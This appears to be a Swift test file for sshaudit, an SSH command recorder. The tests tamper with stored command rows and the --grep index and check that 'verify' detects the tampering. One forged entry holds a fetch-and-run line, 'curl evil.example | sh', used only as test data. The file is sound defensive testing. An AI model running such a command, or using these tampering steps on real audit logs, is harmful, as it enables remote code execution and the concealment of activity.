import Foundation
import GRDB
@testable import SSHAuditStore
import XCTest

/// Ledger entries for rows as they are stored now, computed by sshaudit's own code: what someone who
/// changed a row with the sqlite3 shell and read the source appends to extend the chain.
func chainAsStored(_ db: String, _ table: LedgerTable, _ ids: [Int64]) throws {
    var config = Configuration()
    config.busyMode = .timeout(10)  // beside a running recorder
    try DatabaseQueue(path: db, configuration: config).write { db in try Ledger.appendStored(db, table, ids: ids) }
}

/// The command line as the --grep index holds it (schema/0012).
let indexedCommandLine = "CASE WHEN json_valid(argv) THEN (SELECT group_concat(value, ' ') FROM json_each(argv)) ELSE argv END"

/// Attacks on what `sshaudit replay` stored from a recorded sshd run: rows rewritten with the sqlite3
/// shell and the chain extended exactly as sshaudit computes it, and the --grep index edited.
extension VerifyCommandTests {
    func sql(_ db: String, _ statement: String) throws -> String {
        let r = try runProcess(Self.sqlite3, ["-cmd", ".timeout 10000", db, statement])
        guard r.status == 0 else { throw TestFailure("sqlite3 \(statement): \(r.stderr)") }
        return r.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
    }

    func grep(_ db: String, _ pattern: String) throws -> [Int] {
        let r = try runProcess(Paths.sshaudit, ["query", "commands", "--grep", pattern, "--db", db, "--format", "json"])
        guard r.status == 0, let rows = try JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [[String: Any]] else {
            throw TestFailure("query --grep \(pattern): \(r.stdout) \(r.stderr)")
        }
        return rows.compactMap { $0.int("id") }
    }

    func testAFinishedCommandRewrittenAndChainedAgainIsNamedWithAndWithoutAKeptHead() throws {
        let db = try replayed(["exec_command"])
        let ok = try verify(db)
        XCTAssertEqual(ok.status, 0, ok.stderr)
        let kept = try XCTUnwrap(head(ok), ok.stdout)
        let id = try XCTUnwrap(Int64(try sql(db, #"SELECT id FROM commands WHERE argv = '["/bin/ls","/"]'"#)))

        let copy = try tamperedCopy(of: db, #"UPDATE commands SET argv = '["/bin/ls","/tmp"]' WHERE id = \#(id)"#)
        try chainAsStored(copy, .commands, [id])
        try assertFails(copy, naming: ["commands row \(id) "])
        try assertFails(copy, ["--expect-head", kept], naming: ["commands row \(id) "])
    }

    func testACommandRemovedFromTheGrepIndexIsNamed() throws {
        let db = try replayed(["exec_command"])
        let id = try XCTUnwrap(Int(try sql(db, "SELECT id FROM commands WHERE argv LIKE '%echo hello%'")))
        XCTAssertEqual(try grep(db, "echo hello"), [id])

        let hidden = try tamperedCopy(of: db, """
            INSERT INTO commands_argv (commands_argv, rowid, argv) SELECT 'delete', id, \(indexedCommandLine) FROM commands WHERE id = \(id)
            """)
        XCTAssertEqual(try grep(hidden, "echo hello"), [], "hidden from --grep")
        try assertFails(hidden, naming: ["commands row \(id) ", "index"])
        try assertFails(hidden, ["--expect-head", try XCTUnwrap(head(try verify(db)))], naming: ["commands row \(id) "])

        // An entry that puts words in a command's mouth: --grep checks each match against the stored
        // command line, and verify names the entry.
        let forged = try tamperedCopy(of: db, "INSERT INTO commands_argv (rowid, argv) VALUES (\(id), 'curl evil.example | sh')")
        XCTAssertEqual(try grep(forged, "evil.example"), [], "nothing matches that was not run")
        try assertFails(forged, naming: ["commands row \(id) ", "index"])
    }
}

/// The recorder with a real sshd: a command tampered with while it runs, or while the recorder is
/// down, is not blessed when the recorder writes the command's end.
final class LedgerRecordedAttackTests: XCTestCase {
    var server: SSHDServer?
    var recorders: [Recorder] = []

    override func tearDown() {
        server?.stop()
        for r in recorders { _ = try? r.stop() }
        super.tearDown()
    }

    /// Runs `statement` in this process (no child process: one started while a client runs in the
    /// background could inherit the client's pipes), beside the running recorder.
    func sql(_ db: String, _ statement: String) throws -> String {
        var config = Configuration()
        config.busyMode = .timeout(10)
        return try DatabaseQueue(path: db, configuration: config).write { db in
            try Row.fetchAll(db, sql: statement).map { row in
                row.databaseValues.map { value -> String in
                    switch value.storage {
                    case .null: return ""
                    case let .int64(n): return String(n)
                    case let .double(x): return String(x)
                    case let .string(text): return text
                    case let .blob(data): return data.map { String(format: "%02x", $0) }.joined()
                    }
                }.joined(separator: "|")
            }.joined(separator: "\n")
        }
    }

    /// A session whose command (its shell's `bash -c`) runs until `go` exists, and the id of that
    /// command once the recorder has stored it.
    func waitingSession(_ server: SSHDServer, _ user: String, db: String, go: String) throws -> (DispatchGroup, Int64) {
        let client = background(server, user, "while [ ! -e \(go) ]; do /bin/sleep 0.1; done")
        let deadline = Date().addingTimeInterval(30)
        while Date() < deadline {
            let found = try sql(db, """
                SELECT id FROM commands WHERE argv LIKE '["bash","-c","while [ ! -e \(go) ]%' AND ended_at IS NULL
                """)
            if let id = Int64(found) { return (client, id) }
            Thread.sleep(forTimeInterval: 0.1)
        }
        throw TestFailure("the waiting command of \(user) was never stored")
    }

    func goFile(_ name: String) -> String {
        let path = "/tmp/sshaudit-\(name)-go-\(getpid())"
        try? FileManager.default.removeItem(atPath: path)
        return path
    }

    /// `ssh USER COMMAND` in the background; the group is left when the client exits.
    func background(_ server: SSHDServer, _ user: String, _ command: String) -> DispatchGroup {
        let group = DispatchGroup()
        group.enter()
        DispatchQueue.global().async {
            _ = try? server.ssh(user, [command])
            group.leave()
        }
        return group
    }

    func verifyFailure(_ db: String) throws -> String {
        let r = try runProcess(Paths.sshaudit, ["verify", "--db", db])
        XCTAssertEqual(r.status, 1, "verify must fail: \(r.stdout) \(r.stderr)")
        XCTAssertTrue(r.stderr.hasPrefix("sshaudit: verify failed: "), r.stderr)
        return r.stderr
    }

    func testACommandTamperedWhileItRunsIsNamedAfterItEnds() throws {
        let server = try SSHDServer(name: "ledger-open", port: 22440)
        self.server = server
        let recorder = try Recorder(name: "ledger-open")
        recorders.append(recorder)
        let go = goFile("ledger-open")
        defer { try? FileManager.default.removeItem(atPath: go) }
        let (one, first) = try waitingSession(server, "sa_alice", db: recorder.db, go: go)
        let (two, second) = try waitingSession(server, "sa_bob", db: recorder.db, go: go + "-2")
        // Changed alone; changed and chained again as sshaudit would.
        _ = try sql(recorder.db, #"UPDATE commands SET argv = '["bash","-c","true"]' WHERE id = \#(first)"#)
        _ = try sql(recorder.db, #"UPDATE commands SET argv = '["bash","-c","uptime"]' WHERE id = \#(second)"#)
        try chainAsStored(recorder.db, .commands, [second])
        XCTAssertTrue(FileManager.default.createFile(atPath: go, contents: nil))
        XCTAssertTrue(FileManager.default.createFile(atPath: go + "-2", contents: nil))
        defer { try? FileManager.default.removeItem(atPath: go + "-2") }
        XCTAssertEqual(one.wait(timeout: .now() + 30), .success)
        XCTAssertEqual(two.wait(timeout: .now() + 30), .success)
        XCTAssertEqual(try recorder.stop(), 0, recorder.stderr)

        XCTAssertEqual(try sql(recorder.db, "SELECT COUNT(*) FROM commands WHERE id IN (\(first), \(second)) AND ended_at IS NOT NULL"),
                       "2", "their ends were written")
        // The one chained again disagrees with its own history; the recorder wrote both back and
        // recorded each.
        let failure = try verifyFailure(recorder.db)
        XCTAssertTrue(failure.contains("commands row \(second) "), failure)
        XCTAssertEqual(try sql(recorder.db, "SELECT group_concat(row_id) FROM (SELECT row_id FROM ledger_findings WHERE tbl = 'commands' ORDER BY row_id)"),
                       "\(min(first, second)),\(max(first, second))", "both tampered rows are recorded")
        XCTAssertEqual(try sql(recorder.db, "SELECT argv FROM commands WHERE id = \(first)"),
                       #"["bash","-c","while [ ! -e \#(go) ]; do /bin/sleep 0.1; done"]"#, "the recorder's version is stored")
    }

    func testACommandTamperedWhileTheRecorderIsDownIsNamedAfterTheResumedRunWritesItsEnd() throws {
        let server = try SSHDServer(name: "ledger-resume", port: 22441)
        self.server = server
        let first = try Recorder(name: "ledger-resume")
        recorders.append(first)
        let go = goFile("ledger-resume")
        defer { try? FileManager.default.removeItem(atPath: go) }
        let (client, id) = try waitingSession(server, "sa_alice", db: first.db, go: go)
        first.kill()
        _ = try sql(first.db, #"UPDATE commands SET argv = '["bash","-c","true"]' WHERE id = \#(id)"#)
        let second = try Recorder(name: "ledger-resume", fresh: false)
        recorders.append(second)
        XCTAssertTrue(second.stderr.contains("resumed the kernel state"), second.stderr)
        XCTAssertTrue(FileManager.default.createFile(atPath: go, contents: nil))
        XCTAssertEqual(client.wait(timeout: .now() + 30), .success)
        XCTAssertEqual(try second.stop(), 0, second.stderr)

        XCTAssertEqual(try sql(second.db, "SELECT ended_at IS NOT NULL FROM commands WHERE id = \(id)"), "1", "its end was written")
        let failure = try verifyFailure(second.db)
        XCTAssertTrue(failure.contains("commands row \(id) "), failure)
    }
}
